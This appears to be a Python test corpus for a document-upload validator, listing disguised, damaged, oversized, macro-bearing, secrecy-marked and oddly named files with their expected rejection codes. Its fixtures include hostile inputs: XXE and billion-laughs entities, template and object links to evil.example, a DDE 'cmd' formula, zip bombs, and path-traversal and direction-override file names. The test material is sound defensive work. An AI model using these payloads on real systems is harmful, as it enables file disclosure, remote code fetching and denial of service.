"""Files that lie, are damaged, too big, dangerous or secret, and honest ones that look odd."""

import io
import struct
import warnings
import zipfile
import zlib

from tests.intake.corpus import OUTLINE, Case, book, evidence, file, jpeg, ole, package, paragraph, pdf, png, word
from tests.intake.corpus import WORD_TYPES as TYPES

LIES = "file_not_what_its_name_says"
MB = 2**20
WORDS = "个人发言提纲\n一、存在的突出问题：理论学习不够系统，联系实际不紧密。\n"


def doubled(first: str, second: str) -> bytes:
    """A Word file with two main parts: one reader sees the first, another the second."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as packed:
        warnings.simplefilter("ignore")
        packed.writestr("[Content_Types].xml", TYPES)
        for words in (first, second):
            packed.writestr("word/document.xml", paragraph(words))
    return out.getvalue()


def patched(data: bytes, signature: bytes, at: int, value: bytes) -> bytes:
    """The same with other bytes at an offset of the last record of that signature."""
    changed = bytearray(data)
    start = changed.rindex(signature) + at
    changed[start : start + len(value)] = value
    return bytes(changed)


def overlapping() -> bytes:
    """Entries of the directory that all point at the same compressed bytes."""
    data = package({"word/document.xml": paragraph("字" * 2000), "word/header1.xml": paragraph("字" * 2000)})
    return patched(data, b"PK\x01\x02", 42, struct.pack("<I", 0))


def quine(depth: int = 5) -> bytes:
    """A zip in a zip in a zip."""
    data = bytes(200_000)
    for level in range(depth):
        data = package({f"{level}.zip": data})
    return data


def many_entries(number: int) -> bytes:
    """A Word file of very many parts."""
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": paragraph("多")}
    return package({**parts, **{f"p/{n}": b"" for n in range(number - 2)}}, compression=zipfile.ZIP_STORED)


def filled_up(size: int) -> bytes:
    """A Word file of exactly so many bytes."""
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": paragraph("满")}
    frame = len(package({**parts, "word/media/p.bin": b""}, compression=zipfile.ZIP_STORED))
    return package({**parts, "word/media/p.bin": bytes(size - frame)}, compression=zipfile.ZIP_STORED)


LYING = [
    file("a text named docx", b"plain words"),
    file("a web page named docx", b"<!DOCTYPE html><html><body>x</body></html>"),
    file("a web page with a mark before it", b"\xef\xbb\xbf \r\n<HTML>x</HTML>"),
    file("rich text named docx", b"{\\rtf1\\ansi x}"),
    file("a pdf named docx", pdf()),
    file("a picture named docx", png()),
    file("a photograph named docx", jpeg()),
    file("a program named docx", b"MZ\x90\x00" + bytes(60)),
    file("gzip named docx", b"\x1f\x8b\x08\x00" + bytes(20)),
    file("7z named docx", b"7z\xbc\xaf\x27\x1c" + bytes(20)),
    file("rar named docx", b"Rar!\x1a\x07\x00" + bytes(20)),
    file("a workbook named docx", book()),
    file("any zip named docx", package({"readme.txt": "x"})),
    file("an empty zip named docx", b"PK\x05\x06" + bytes(18)),
    file(
        "an open document named docx",
        package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ""}),
    ),
    file("flat xml named docx", b'<?xml version="1.0"?><pkg:package/>'),
    file("a mail named docx", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"),
    file("json named docx", b'{"problems": []}'),
    file("a docx named pdf", word(), name="提纲.pdf"),
    file("a text named pdf", b"words", name="提纲.pdf"),
    file("a pdf after rubbish", b"rubbish\n" + pdf(), name="提纲.pdf"),
    file("a pdf named txt", pdf(), name="提纲.txt"),
    file("a docx named txt", word(), name="提纲.txt"),
    file("a picture named md", png(), name="提纲.md"),
    file("a web page named md", b"<html><script>alert(1)</script></html>", name="提纲.md"),
    file("a docx named xlsx", word(), name="提纲.xlsx"),
    evidence("a docx named xlsx as evidence", word()),
    evidence("a photograph named png", jpeg(), name="签字页.png"),
    evidence("a picture named jpg", png(), name="签字页.jpg"),
    evidence("a moving picture named png", b"GIF89a" + bytes(20), name="签字页.png"),
    evidence("a drawing named png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", name="签字页.png"),
    evidence("a workbook named jpeg", book(), name="签字页.jpeg"),
]
LYING = [case._replace(status=422, code=LIES) for case in LYING]

LEGACY = [
    file("an old Word file", ole("WordDocument"), "file_legacy_word", "提纲.doc"),
    file("an old Word file named docx", ole("WordDocument"), "file_legacy_word"),
    file("an old workbook named xlsx", ole("Workbook"), "file_legacy_word", "台账.xlsx"),
    evidence("an old workbook", ole("Workbook"), "file_legacy_word", "台账.xls"),
    file("a WPS file", ole("WpsCustomData"), "file_legacy_word", "提纲.wps"),
    file("a Word file with a password", ole("EncryptionInfo", "EncryptedPackage"), "file_encrypted"),
    evidence("a workbook with a password", ole("EncryptedPackage"), "file_encrypted"),
    file("a docx packed with a password", patched(word("密"), b"PK\x01\x02", 8, b"\x01\x00"), "file_encrypted"),
    file("rich text", b"{\\rtf1 x}", "file_kind_unknown", "提纲.rtf"),
    file("a web page", b"<html></html>", "file_kind_unknown", "提纲.html"),
    file("a program", b"MZ", "file_kind_unknown", "提纲.exe"),
    file("a shortcut", b"L\x00\x00\x00", "file_kind_unknown", "提纲.docx.lnk"),
    file("a Word file with macros by its name", word("宏"), "file_kind_unknown", "提纲.docm"),
    file("an open document", package({"content.xml": ""}), "file_kind_unknown", "提纲.odt"),
    file("a picture where words are asked for", png(), "file_kind_unknown", "提纲.png"),
    file("a workbook where words are asked for", book(), "file_kind_unknown", "提纲.xlsx"),
    file("no ending", b"words", "file_kind_unknown", "提纲"),
    file("an ending with a full-width dot", word("点"), "file_kind_unknown", "提纲．docx"),
    file("only an ending", word("尾"), "file_kind_unknown", ".docx"),
]

EMPTY = [
    file("nothing in it", b"", "file_empty"),
    file("blanks", b" \r\n\t ", "file_empty", "提纲.txt"),
    file("a mark of UTF-8 and nothing else", b"\xef\xbb\xbf", "file_empty", "提纲.txt"),
    file("a mark of UTF-16 and nothing else", b"\xff\xfe", "file_empty", "提纲.txt"),
    file("full-width blanks", "　　\n　".encode(), "file_empty", "提纲.txt"),
    file("signs without width", "\u200b\ufeff\u200b".encode(), "file_empty", "提纲.md"),
    evidence("a picture with nothing in it", b"", "file_empty", "签字页.png"),
]

SIZES = [
    file("a text at the limit", lambda: WORDS.encode() + b"a" * (2 * MB - len(WORDS.encode())), name="提纲.txt"),
    file("a text one above", lambda: b"a" * (2 * MB + 1), "file_too_large", "提纲.txt"),
    file("a docx at the limit", lambda: filled_up(10 * MB)),
    file("a docx one above", lambda: filled_up(10 * MB + 1), "file_too_large"),
    file("a pdf one above", lambda: b"%PDF-" + bytes(10 * MB), "file_too_large", "提纲.pdf"),
    file("far above what the door takes", lambda: bytes(14 * MB + 4096), "file_too_large"),
    evidence("a picture one above", lambda: png() + bytes(8 * MB), "file_too_large", "签字页.png"),
    file("two thousand parts", many_entries(2000)),
    file("one part more", many_entries(2001), "file_bomb"),
]

DAMAGED = [
    file("a docx cut in half", word("字" * 500)[:400], "file_damaged"),
    file("a docx without its directory", word("录")[: word("录").index(b"PK\x01\x02")], "file_damaged"),
    file("a docx with rubbish before it that is none", b"PK\x03\x04" + b"rubbish" * 9, "file_damaged"),
    file("a part with a wrong sum", patched(word("和"), b"PK\x01\x02", 16, b"\0\0\0\0"), "file_damaged"),
    file("a directory that says nothing is there", patched(word("零"), b"PK\x05\x06", 8, b"\0\0\0\0"), "file_damaged"),
    file(
        "a directory that starts elsewhere", patched(word("移"), b"PK\x05\x06", 16, b"\xff\xff\xff\x7f"), "file_damaged"
    ),
    file(
        "a directory longer than the file", patched(word("长"), b"PK\x05\x06", 12, b"\xff\xff\xff\x7f"), "file_damaged"
    ),
    file("a part packed in an unknown way", patched(word("法"), b"PK\x01\x02", 10, b"\x63\x00"), "file_damaged"),
    file("a part that says it is smaller", patched(word("小" * 99), b"PK\x01\x02", 24, b"\x05\0\0\0"), "file_damaged"),
    file("two main parts", doubled("甲", "乙"), "file_damaged"),
    file("two main parts, one bears a mark", doubled("机密★", "乙"), "file_damaged"),
    file("parts that overlap", overlapping(), "file_damaged"),
    file("a pdf cut in half", pdf("字" * 9000)[:9000], "file_damaged", "提纲.pdf"),
    file("a pdf of one line", b"%PDF-1.7\n", "file_damaged", "提纲.pdf"),
    evidence("a picture cut in half", png()[:50], "file_damaged", "签字页.png"),
    evidence("a picture with a wrong sum", patched(png(), b"IDAT", 5, b"\xff"), "file_damaged", "签字页.png"),
    evidence("a picture without an end", png()[:-12], "file_damaged", "签字页.png"),
    evidence("a picture of nothing but its first bytes", b"\x89PNG\r\n\x1a\n", "file_damaged", "签字页.png"),
    evidence(
        "a picture that names a chunk beyond its end", png()[:33] + b"\xff\xff\xff\xffIDAT", "file_damaged", "a.png"
    ),
    evidence("a photograph cut in half", jpeg()[:20] + bytes(5000), "file_damaged", "签字页.jpg"),
    evidence("a workbook cut in half", book()[:300], "file_damaged"),
    evidence("a workbook with a wrong sum", patched(book(), b"PK\x01\x02", 16, b"\1\2\3\4"), "file_damaged"),
]

BOMBS = [
    file("much of nothing", lambda: word("弹", word__media__p_bin=bytes(50 * MB)), "file_bomb"),
    file("a ratio beyond any document", lambda: word("0" * 9 * MB), "file_bomb"),
    evidence(
        "a workbook with a ratio beyond any", lambda: book(more={"xl/sharedStrings.xml": "0" * 30 * MB}), "file_bomb"
    ),
    file("a zip in a zip in a zip as a part", word("套", word__embeddings__a_zip=quine())),
    file("a zip in a zip in a zip named docx", quine(), LIES),
    file("a size that is beyond any", patched(word("大"), b"PK\x01\x02", 24, b"\xff\xff\xff\x7f"), "file_bomb"),
]

LAUGHS = '<!DOCTYPE w [<!ENTITY a "机"><!ENTITY b "&a;&a;&a;&a;">]><w:t>&b;</w:t>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:t>&x;</w:t>'
RELS = '<Rs><Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/></Rs>'
SETTINGS, DOCUMENT = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"


def linked(part: str, kind: str, target: str) -> bytes:
    """A Word file with something outside of it."""
    return package(
        {"[Content_Types].xml": TYPES, "word/document.xml": paragraph(kind + target), part: RELS.format(kind, target)}
    )


DANGEROUS = [
    file("entities in entities", package({"word/document.xml": LAUGHS}), "file_unsafe"),
    file("an entity from the disk", package({"word/document.xml": OUTSIDE}), "file_unsafe"),
    file("entities in a header", word("头", word__header1_xml=LAUGHS), "file_unsafe"),
    file("entities in UTF-16", word("十六", word__header1_xml=OUTSIDE.encode("utf-16")), "file_unsafe"),
    evidence("entities in a workbook", book(more={"xl/sharedStrings.xml": LAUGHS}), "file_unsafe"),
    file("a template from the web", linked(SETTINGS, "attachedTemplate", "https://evil.example/a.dotm"), "file_unsafe"),
    file("a template from a share", linked(SETTINGS, "attachedTemplate", "\\\\10.0.0.9\\a.dotm"), "file_unsafe"),
    file("an object from the web", linked(DOCUMENT, "oleObject", "http://evil.example/a.rtf"), "file_unsafe"),
    file("a frame from the web", linked(DOCUMENT, "frame", "http://evil.example/a.htm"), "file_unsafe"),
    file(
        "a template from the author's own disk", linked(SETTINGS, "attachedTemplate", "file:///C:/Users/a/Normal.dotm")
    ),
    file("a link to the web", linked(DOCUMENT, "hyperlink", "https://www.gov.cn/")),
    file("macros", word("宏", word__vbaProject_bin=b"x"), "file_macros"),
    file(
        "macros under another name",
        package(
            {
                "[Content_Types].xml": TYPES.replace("wordprocessingml.document.main", "x.macroEnabled.main"),
                "word/document.xml": paragraph("宏"),
            }
        ),
        "file_macros",
    ),
    evidence("macros in a workbook", book(more={"xl/vbaProject.bin": b"x"}), "file_macros"),
    evidence("a sheet of old macros", book(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "file_macros"),
    file("a table of Excel inside", word("表", word__embeddings__oleObject1_bin=ole("Workbook"))),
    evidence("a formula that starts a program", book("<c r='A1'><f>cmd|'/c calc'!A0</f><v>1</v></c>")),
    evidence("a cell that begins like a formula", book("<c r='A1' t='inlineStr'><is><t>=1+1</t></is></c>")),
]

MARK = "机密★1年"
W = paragraph(MARK)
SECRET = [
    file("a mark in the body", word(MARK)),
    file("a mark that Word splits", word("机</w:t></w:r><w:r><w:t>密</w:t></w:r><w:r><w:t>★")),
    file("a mark in character references", word("&#26426;&#23494;&#9733;")),
    file("a mark with wide spaces", word("机　密　★　长期")),
    file("a mark in the old characters", word("機密★")),
    file("a mark in a header", word("一", word__header1_xml=W)),
    file("a mark in a footer", word("二", word__footer3_xml=W)),
    file("a mark in a footnote", word("三", word__footnotes_xml=W)),
    file("a mark in an endnote", word("四", word__endnotes_xml=W)),
    file("a mark in a comment", word("五", word__comments_xml=W)),
    file("a mark in a text box", word(f"<w:txbxContent><w:p><w:t>{MARK}</w:t></w:p></w:txbxContent>")),
    file("a mark in a watermark", word(f'<v:textpath string="{MARK}"/>')),
    file("a mark in a deleted passage", word(f"<w:del><w:delText>{MARK}</w:delText></w:del>")),
    file("a mark in hidden words", word(f"<w:rPr><w:vanish/></w:rPr>{MARK}")),
    file("a mark in a drawing of its own", word("六", word__diagrams__data1_xml=W)),
    file("a mark in a chart", word("七", word__charts__chart1_xml=W)),
    file("a mark in the title of the file", word("八", docProps__core_xml=f"<dc:title>{MARK}</dc:title>")),
    file("a mark in a part written in capitals", word("九", word__HEADER1_XML=W)),
    file("a mark in a part in UTF-16", word("十", word__header1_xml=W.encode("utf-16"))),
    file("a mark in a text", MARK.encode(), name="提纲.txt"),
    file("a mark in a text of the old encoding", f"{WORDS}{MARK}".encode("gb18030"), name="提纲.txt"),
    file("a mark in a text in UTF-16", MARK.encode("utf-16"), name="提纲.txt"),
    file("a mark in the name", word("名"), name="机密★提纲.docx"),
    evidence("a mark in a cell", book(f"<c r='A1' t='inlineStr'><is><t>{MARK}</t></is></c>")),
    evidence("a mark in the shared words", book(more={"xl/sharedStrings.xml": f"<sst><si><t>{MARK}</t></si></sst>"})),
    evidence("a mark in a note on a cell", book(more={"xl/comments1.xml": f"<t>{MARK}</t>"})),
    evidence("a mark in a drawing on a sheet", book(more={"xl/drawings/drawing1.xml": f"<a:t>{MARK}</a:t>"})),
    evidence(
        "a mark in a sheet's header", book(more={"xl/worksheets/sheet2.xml": f"<oddHeader>&amp;C{MARK}</oddHeader>"})
    ),
    evidence("a mark as a sheet's name", book(more={"xl/worksheets/sheet3.xml": f'<x name="{MARK}"/>'})),
    evidence("a mark in a name of evidence", png(1), name="秘密★照片.png"),
]
SECRET = [case._replace(status=422, code="secrecy_mark") for case in SECRET]

ENCODINGS = [
    file("UTF-8", WORDS.encode(), name="提纲.txt"),
    file("UTF-8 with a mark", f"甲{WORDS}".encode("utf-8-sig"), name="提纲.txt"),
    file("UTF-16, little end first", f"乙{WORDS}".encode("utf-16"), name="提纲.txt"),
    file("UTF-16, big end first", b"\xfe\xff" + f"丙{WORDS}".encode("utf-16-be"), name="提纲.txt"),
    file("GB18030", f"丁{WORDS}".encode("gb18030"), name="提纲.txt"),
    file("GB18030 with rare characters of a name", f"邓𬬭、䶮\n{WORDS}".encode("gb18030"), name="提纲.txt"),
    file("markdown with a table", f"# 提纲\n|一|二|\n|-|-|\n|1|2|\n{WORDS}".encode(), name="提纲.md"),
    file("an ending in capitals", f"戊{WORDS}".encode(), name="提纲.TXT"),
    file("signs that turn the direction", f"己\u202e{WORDS}".encode(), name="提纲.txt"),
    file("Big5", "個人發言提綱，檢視問題與整改措施，學習貫徹".encode("big5"), LIES, "提纲.txt"),
    file("UTF-16 without a mark", WORDS.encode("utf-16-le"), LIES, "提纲.txt"),
    file("UTF-32", WORDS.encode("utf-32"), LIES, "提纲.txt"),
    file("noise of Latin-1", bytes(range(160, 256)) * 20, LIES, "提纲.txt"),
    file("all bytes there are", bytes(range(256)), LIES, "提纲.txt"),
    file("a NUL in the words", b"a\x00b", LIES, "提纲.txt"),
    file("UTF-8 cut within a sign", WORDS.encode()[:-3] + b"\xe7", LIES, "提纲.txt"),
    file("two encodings in one", WORDS.encode() + WORDS.encode("gb18030"), LIES, "提纲.txt"),
    file("compressed words", zlib.compress(WORDS.encode()), LIES, "提纲.txt"),
]

NAMES: list[tuple[str, str | bytes, str]] = [
    ("folders upwards", "../../../etc/passwd.docx", "passwd.docx"),
    ("a folder of Windows", "C:\\Users\\张三\\提纲.docx", "提纲.docx"),
    ("a share", "\\\\10.0.0.1\\共享\\提纲.docx", "提纲.docx"),
    ("a NUL", b"\xe6\x8f\x90\x00\xe7\xba\xb2.docx", "提纲.docx"),
    ("a sign that turns the direction", "提纲\u202excod.docx", "提纲xcod.docx"),
    ("signs without width", "提\u200b纲\ufeff.docx", "提纲.docx"),
    ("dots and blanks after it", "提纲.docx. . ", "提纲.docx"),
    ("dots before it", "..提纲.docx", "提纲.docx"),
    ("a name of a device", "CON.docx", "_CON.docx"),
    ("a name of a port", "com1.txt.docx", "_com1.txt.docx"),
    ("signs no disk takes", 'a<b>c:d"e|f?g*.docx', "a_b_c_d_e_f_g_.docx"),
    ("a small picture in it", "提纲👩‍💻🎉.docx", "提纲👩💻🎉.docx"),
    ("letters taken apart", "re\u0301sume\u0301 提纲.docx", "résumé 提纲.docx"),
    ("Chinese and blanks", "关于 2023 年度 个人发言提纲（第三稿）.docx", "关于 2023 年度 个人发言提纲（第三稿）.docx"),
    ("far too long", "很" * 300 + ".docx", "很" * 65 + ".docx"),
    ("a formula", "=cmd|' calc'!A1.docx", "=cmd_' calc'!A1.docx"),
]
NAMED = [
    file(f"named with {called}", word(f"名字{n}"), name=name, kept_as=kept)
    for n, (called, name, kept) in enumerate(NAMES)
]
NAMED += [
    Case("a name in the old encoding", OUTLINE, 400, "not_a_form", file=("提纲.docx".encode("gb18030"), word("旧"))),
    Case("a name of bytes that are no letters", OUTLINE, 400, "not_a_form", file=(b"\xff\xfe.docx", word("乱"))),
    file("a name that hides a program", word("藏"), "file_kind_unknown", "提纲.docx\u202e.exe"),
    file("a folder for a name", word("夹"), "file_kind_unknown", "提纲.docx/"),
    file("blanks for a name", word("白"), "file_kind_unknown", " .  . "),
]

GOOD = [
    file("a Word file", word("真的是 Word 文件")),
    file("a Word file with a comment for the whole package", word("尾注")[:-2] + b"\x03\x00abc"),
    file("the word secret in a sentence", word("我保守秘密不够严格，机密文件管理松，★为重点")),
    file("an ending in capitals of Word", word("大写"), name="提纲.DOCX"),
    file("a pdf", pdf("好"), name="提纲.pdf"),
    file("a pdf with bytes after its end", pdf("尾") + b"\r\n" + bytes(100), name="提纲.pdf"),
    evidence("a picture", png(2), name="签字页.PNG"),
    evidence("a photograph", jpeg(), name="签字页.jpeg"),
    evidence("a photograph with bytes after its end", jpeg() + bytes(16), name="现场.jpg"),
    evidence("a workbook", book()),
]
CASES: list[Case] = [*LYING, *LEGACY, *EMPTY, *SIZES, *DAMAGED, *BOMBS, *DANGEROUS, *SECRET, *ENCODINGS, *NAMED, *GOOD]
